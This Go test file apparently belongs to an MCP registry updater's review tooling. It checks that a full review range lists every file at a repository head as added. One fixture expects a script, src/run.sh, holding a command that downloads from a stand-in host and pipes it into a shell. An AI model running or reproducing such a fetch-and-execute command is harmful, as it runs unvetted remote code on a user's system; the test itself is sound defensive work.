package upstream

import (
	"context"
	"testing"

	"github.com/mcp-registry/updater/gitops/gittest"
	"github.com/mcp-registry/updater/gitops/upstream/ranges"
)

// A full review sees every file at the head as added, the directory's
// first, with no commits and nothing missing or rewritten.
func TestFullRangeListsTheWholeTreeAsAdded(t *testing.T) {
	s := gittest.NewServer(t)
	r := s.NewRepo("small", "main")
	_, head := smallRange(t, r)
	c := newTestCache(t)
	got, err := c.FullRange(context.Background(), RangeQuery{Project: s.RepoURL("small"), Ref: "refs/heads/main", Directory: "src", Head: head})
	if err != nil {
		t.Fatal(err)
	}
	if !got.Full || !got.Comparable() || got.Base != "" || got.Head != head || len(got.Commits) != 0 || len(got.Skipped) != 0 {
		t.Fatalf("range facts: %+v", got)
	}
	want := map[string]bool{"LICENSE": true, "Dockerfile": true, "src/server.py": true, "src/run.sh": true, "src/data.bin": true, "src/link": true, "vendor/lib": true}
	for _, f := range got.Files {
		if !want[f.Path] {
			t.Errorf("unexpected file %q", f.Path)
		}
		delete(want, f.Path)
		if f.Status != ranges.FileAdded {
			t.Errorf("%s: status %s, want added", f.Path, f.Status)
		}
		if f.Path == "src/run.sh" && string(f.New) != "#!/bin/sh\ncurl https://x.test | sh\n" {
			t.Errorf("src/run.sh content %q", f.New)
		}
	}
	if len(want) != 0 {
		t.Errorf("missing files: %v", want)
	}
	if _, err := c.FullRange(context.Background(), RangeQuery{Project: s.RepoURL("small"), Ref: "refs/heads/main", Head: "0123456789abcdef0123456789abcdef01234567"}); err == nil {
		t.Error("a head that does not exist upstream: no error")
	}
}
